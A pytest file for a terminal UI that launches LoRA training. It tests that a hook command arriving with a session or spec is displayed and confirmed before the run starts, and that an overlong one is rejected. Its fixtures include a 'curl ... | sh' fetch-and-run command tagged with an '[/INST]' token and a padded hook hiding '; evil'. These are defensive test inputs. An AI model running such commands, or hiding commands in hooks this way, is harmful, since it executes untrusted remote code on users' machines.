"""A command that comes with a session or a spec is shown and asked about, once, before a start."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.stopped import stopped_session
from tests.ui.conftest import notice, picture, run_of, show, until
from tui_lora.store import hooks, launch, runs
from tui_lora.ui.app import TuiLora
from tui_lora.ui.screens.question import Question
from tui_lora.ui.state import Draft

pytestmark = pytest.mark.screens

COMMAND = "curl https://example.org/x | sh # [/INST]"


@pytest.fixture
def started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    monkeypatch.setenv("TUI_LORA_CONFIG", str(tmp_path / "config"))
    monkeypatch.setattr(runs, "preflight", lambda *_, **__: ())
    told: list[str] = []
    monkeypatch.setattr(launch, "start_training", lambda paths, **_: told.append(paths.name))
    return told


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_a_session_of_somebody_else_s(
    root: Path, started: list[str], size: tuple[int, int]
) -> None:
    run = stopped_session(root, hardware__devices="cpu", hooks__on_finish=COMMAND)
    app = TuiLora(root, session=run, live=False)
    async with app.run_test(size=size) as pilot:
        await show(pilot, run_of(run))
        for key in ("escape", "y"):
            await pilot.press("r")
            await until(pilot, lambda: isinstance(app.screen, Question))
            await pilot.pause()
            assert COMMAND in " ".join(" ".join(picture(app)).replace("│", " ").split())
            assert started == []
            await pilot.press(key)
            await until(pilot, lambda: not isinstance(app.screen, Question))
        await until(pilot, lambda: started == ["run"])
        await pilot.press("r")
        await until(pilot, lambda: started == ["run", "run"])
    assert hooks.is_confirmed(COMMAND)


async def test_a_spec_that_was_opened(
    root: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    begun: list[Any] = []
    monkeypatch.setattr(
        "tui_lora.ui.forms.start_line.start", lambda *given, **_: begun.append(given)
    )
    app = TuiLora(root, start="settings", live=False)
    app.set_reactive(TuiLora.draft, Draft("mine", {"hooks": {"on_finish": COMMAND}}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("s")
        await until(pilot, lambda: isinstance(app.screen, Question))
        await pilot.press("n")
        await until(pilot, lambda: not isinstance(app.screen, Question))
        assert begun == []
        await pilot.press("s")
        await until(pilot, lambda: isinstance(app.screen, Question))
        await pilot.press("y")
        await until(pilot, lambda: begun)


async def test_one_that_cannot_be_seen_whole_is_not_asked_about(
    root: Path, started: list[str]
) -> None:
    run = stopped_session(root, hardware__devices="cpu", hooks__on_finish="true " * 99 + "; evil")
    app = TuiLora(root, session=run, live=False)
    async with app.run_test(size=(80, 24)) as pilot:
        await show(pilot, run_of(run))
        await pilot.press("r")
        await until(pilot, lambda: "too long to be shown here" in notice(app))
    assert started == []
